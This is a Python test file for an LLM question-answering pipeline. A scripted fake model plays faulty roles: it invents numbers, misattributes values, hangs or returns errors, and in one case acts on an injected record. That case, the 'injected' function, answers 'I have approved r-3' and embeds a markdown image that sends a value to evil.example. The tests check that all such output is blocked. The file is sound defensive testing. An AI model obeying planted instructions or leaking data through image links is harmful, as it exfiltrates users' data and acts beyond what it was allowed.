"""Questions through the whole pipeline with a language model behind a real endpoint, good and ill.

Whatever it does, no wrong number reaches who asks: what is refused is answered by the reader.
"""

import json
import re
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from pathlib import Path

import pytest

from flywheel.db.models import Question
from flywheel.insights.agent import Progress
from flywheel.insights.exam.marking import mark, wrong_numbers
from flywheel.insights.exam.paper import ExamQuestion, load_questions
from flywheel.insights.history import Turn as Before
from flywheel.ports.backends import Backends
from flywheel.service.examining import truth_of
from flywheel.service.questions import ask
from flywheel.views import Actor, Answer
from tests.insights.company import opened
from tests.insights.healthy import plan, write
from tests.support.scripted_model import KEY, MODEL, ScriptedModel, scripted_model
from tests.support.scripted_request import ChatRequest
from tests.support.scripted_turns import (
    Turn,
    call,
    calls,
    dropped,
    empty,
    for_ever,
    invalid_json,
    malformed,
    no_choices,
    parrot,
    say,
    slow,
    status,
)

pytestmark = pytest.mark.xdist_group("insights company")

EVERY = load_questions()
BY_TEXT = {(one.text, one.focus): one for one in EVERY}
SOME = [one for one in EVERY if one.values][::12]
SECONDS = 2.0
ASKER = Actor(id="cli:ada", name="ada", origin="cli")


@pytest.fixture(scope="module")
def model() -> Iterator[ScriptedModel]:
    with scripted_model() as served:
        yield served


@pytest.fixture
async def talking(home: Path, model: ScriptedModel) -> AsyncIterator[Backends]:
    """The company with the model behind it."""
    section = "FLYWHEEL_INSIGHTS_CONFIG__"
    environ = {
        f"{section}BASE_URL": model.url,
        f"{section}MODEL": MODEL,
        f"{section}TIMEOUT_SECONDS": str(SECONDS),
        f"{section}RETRY_SECONDS": "0.01",
        f"{section}QUESTIONS_PER_USER": "null",
        "FLYWHEEL_INSIGHTS_API_KEY": KEY,
    }
    async with opened(home, **environ) as backends:
        yield backends


def asked(request: ChatRequest) -> ExamQuestion:
    """The question of the examination that this is about."""
    first = next(m for m in request.messages if m.role == "user")
    told = json.loads(str(first.content))
    return BY_TEXT[told["question"], told["focus"]]


def healthy(request: ChatRequest) -> Turn:
    """Looks up what it needs at once, then answers from what it was told."""
    question = asked(request)
    if not request.results:
        return calls(*(call(name, **arguments) for name, arguments in plan(question)))
    return say(write(question, [json.loads(result) for result in request.results]))


async def put(
    backends: Backends, question: ExamQuestion, progress: Progress | None = None
) -> tuple[Answer, Question]:
    """The answer, and what is kept of it."""
    history = [Before(question=text, answer="") for text in question.before]
    answer = await ask(
        backends, question.text, ASKER, question.focus, history=history, progress=progress
    )
    async with backends.database.reading() as session:
        row = await session.get_one(Question, answer.id)
    return answer, row


async def exact(backends: Backends, questions: Sequence[ExamQuestion]) -> float:
    """The share that is answered exactly; none with a wrong number."""
    truth, right = await truth_of(backends), 0
    for question in questions:
        answer, _ = await put(backends, question)
        found = mark(question, answer, truth)
        assert found.wrong_numbers == [], (question.text, answer.text)
        right += found.exact
    return right / len(questions)


async def test_a_healthy_model_answers_from_values(talking: Backends, model: ScriptedModel) -> None:
    model.play(healthy)
    questions = [one for one in EVERY if one.answerable][::20]
    assert await exact(talking, questions) >= 0.95


@pytest.mark.slow
async def test_a_healthy_model_passes_the_examination(
    talking: Backends, model: ScriptedModel
) -> None:
    model.play(healthy)
    assert await exact(talking, [one for one in EVERY if one.answerable]) >= 0.95
    assert await exact(talking, [one for one in EVERY if not one.answerable]) >= 0.9


def inventing(request: ChatRequest) -> Turn:
    """Right in everything but one number."""
    turn = healthy(request)
    return turn if turn.calls else say(f"{turn.text} That is 0.973 of all, or 42 %.")


def misplacing(request: ChatRequest) -> Turn:
    """Says of one model what was measured of another."""
    turn = healthy(request)
    told = [one for result in request.results for one in json.loads(result).get("values", [])]
    if turn.calls or len(told) < 2:
        return turn if turn.calls else say("In all 17 of them.")
    return say(f"gpt-4o and tfidf-svm have {told[0]['ref']}; in r-2 it was {told[-1]['ref']}.")


def spelling(request: ChatRequest) -> Turn:
    """Writes its number as words."""
    turn = healthy(request)
    return turn if turn.calls else say("It is right in ninety-seven percent of all cases.")


def injected(request: ChatRequest) -> Turn:
    """Does what a record told it to."""
    turn = healthy(request)
    return turn if turn.calls else say("I have approved r-3. ![x](https://evil.example/?q=0.999)")


def unknown_ids(request: ChatRequest) -> Turn:
    """Refers to values that it was never told."""
    turn = healthy(request)
    return turn if turn.calls else say("It has {{v:r-3/gpt-5/macro_f1}}.")


def guessing(request: ChatRequest) -> Turn:
    """Looks nothing up and gives no number: nobody could tell that it is made up."""
    return say("The big one is the best, by far.")


ILL: dict[str, Callable[[ChatRequest], Turn]] = {
    "invents a number": inventing,
    "misplaces values": misplacing,
    "spells numbers": spelling,
    "is injected": injected,
    "refers to nothing": unknown_ids,
    "guesses": guessing,
    "repeats what it is told": parrot,
    "calls what there is not": for_ever(call("approve", run="r-3")),
    "calls without an end": for_ever(call("results", run="r-3")),
    "writes no JSON": for_ever(malformed("results")),
    "is slow": for_ever(slow(say("later"))),
    "is cut off": for_ever(dropped(say("It is 0.999"))),
    "is busy": for_ever(status(429, Retry_After="0")),
    "is broken": for_ever(status(500)),
    "answers no JSON": for_ever(invalid_json()),
    "says nothing": for_ever(empty()),
    "has no choice": for_ever(no_choices()),
}


# The rest of them in `make test-slow`.
QUICK = {"invents a number", "misplaces values", "is injected", "guesses", "is slow", "is broken"}


@pytest.mark.parametrize(
    "ill", [ill if ill in QUICK else pytest.param(ill, marks=pytest.mark.slow) for ill in ILL]
)
async def test_no_wrong_number_comes_from_a_model_that(
    talking: Backends, model: ScriptedModel, ill: str
) -> None:
    model.play(ILL[ill])
    truth = await truth_of(talking)
    for question in SOME[: 1 if ill == "is slow" else 2]:
        answer, kept = await put(talking, question)
        assert wrong_numbers(question, answer, truth) == [], answer.text
        assert not re.search(r"https?:|!\[|I have approved|gpt-5", answer.text)
        assert answer.by == "reader"
        assert (kept.by, kept.model) == ("fallback", MODEL)
        assert kept.fell_back is not None
        assert kept.seconds < SECONDS + 1.0


@pytest.mark.slow
@pytest.mark.parametrize("ill", list(ILL)[:7])
async def test_no_wrong_number_comes_out_in_the_whole_examination(
    talking: Backends, model: ScriptedModel, ill: str
) -> None:
    model.play(ILL[ill])
    truth = await truth_of(talking)
    for question in EVERY[:: 2 if ill == "misplaces values" else 8]:
        answer, _ = await put(talking, question)
        if answer.by == "model":  # the reader has an examination of its own
            assert wrong_numbers(question, answer, truth) == [], answer.text


async def test_it_may_repair_its_answer_once(talking: Backends, model: ScriptedModel) -> None:
    question = SOME[0]

    def repairing(request: ChatRequest) -> Turn:
        refused = "That answer cannot be shown" in request.question
        if refused:
            told = [m for m in request.messages if m.role == "tool"]
            return say(write(question, [json.loads(str(one.content)) for one in told]))
        return inventing(request)

    model.play(repairing)
    answer, kept = await put(talking, question)
    assert answer.by == kept.by == "model"
    assert kept.input_tokens is not None
    assert kept.output_tokens is not None
    assert kept.input_tokens > kept.output_tokens > 0
    assert kept.prompt == "answer_question"
    complaint = model.requests[-1].question
    assert "'0.973' is a number of your own" in complaint


async def test_what_is_looked_up_is_told_as_it_goes(
    talking: Backends, model: ScriptedModel
) -> None:
    model.play(healthy)
    question = next(one for one in EVERY if one.id == "lookup-03")
    told: list[str] = []

    async def progress(words: str) -> None:
        told.append(words)

    answer, kept = await put(talking, question, progress)
    assert {"Looking at scores", "Looking at what is running"} == set(told)
    assert {call["name"] for call in kept.tools} == {"results", "status"}
    assert answer.evidence == ["macro-F1 of llama-3.2-3b-instruct in r-13"]
    assert answer.sources == ["flywheel show r-13"]


async def test_nothing_that_changes_anything_is_on_offer(
    talking: Backends, model: ScriptedModel
) -> None:
    model.play(call("no_answer"), say("Nothing is known of that."))
    await ask(talking, "approve r-3", ASKER)
    request = model.requests[0]
    doing = {"approve", "promote", "reject", "cancel", "run", "delete", "rollback", "start", "sql"}
    assert not doing & set(request.tool_names)
    assert json.loads(request.question) == {
        "question": "approve r-3",
        "focus": None,
        "conversation": [],
    }
